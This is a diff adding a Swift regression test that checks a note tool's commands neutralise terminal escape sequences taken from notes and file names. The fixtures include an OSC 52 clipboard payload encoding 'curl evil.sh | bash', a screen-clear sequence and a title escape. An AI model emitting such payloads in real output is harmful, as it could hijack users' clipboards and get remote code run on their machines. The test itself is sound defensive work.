@@ -147,4 +147,25 @@ import TestSupport
         #expect(try store.read("Memory/hard.md").status.linkCount == 2, "the link was parted")
         #expect(Self.cli(["note", "set", "Memory/Open.md", "topic=x"], v, runID: run).code == 0)
     }
+
+    /// Attack: `search`, `status`, `note show` (and `related`, `run`, `doctor`) printed escape
+    /// sequences from note text, titles and agents' errors raw: a cloud agent's note could set the
+    /// person's clipboard (OSC 52) or clear their terminal. Control characters are shown, not sent;
+    /// the OS's own colours stay.
+    @Test func commandsPrintNoTerminalControlSequencesFromNotes() throws {
+        let v = RouteTestVault()
+        let osc52 = "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgYmFzaA==\u{07}"
+        let clear = "\u{1B}[2J\u{1B}[3J\u{9B}31m\r"
+        v.write("Memory/Wombat \u{1B}]0;pwned\u{07}.md", "# Wombat ledger \(osc52)\n\nThe wombat ledger \(clear) reconciliation.\n")
+        _ = try MemoryIndex(vault: v.vault).reconcile()
+        for arguments in [["search", "wombat"], ["note", "show", "Memory/Wombat \u{1B}]0;pwned\u{07}.md"], ["related", "wombat ledger reconciliation"]] {
+            let (code, out) = Self.cli(arguments, v, runID: nil)
+            #expect(code == 0, "\(arguments): \(out)")
+            #expect(!out.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{07}" || $0 == "\u{9B}" || $0 == "\r" }, "\(arguments): \(out.debugDescription)")
+            #expect(out.contains("␛"), "\(arguments): \(out)")
+        }
+        // The colours the OS writes itself are kept.
+        #expect(Console.inert("\u{1B}[1mWatcher: \u{1B}[0m") == "\u{1B}[1mWatcher: \u{1B}[0m")
+        #expect(Console.inert("a\u{1B}[2Jb") == "a␛[2Jb")
+    }
 }
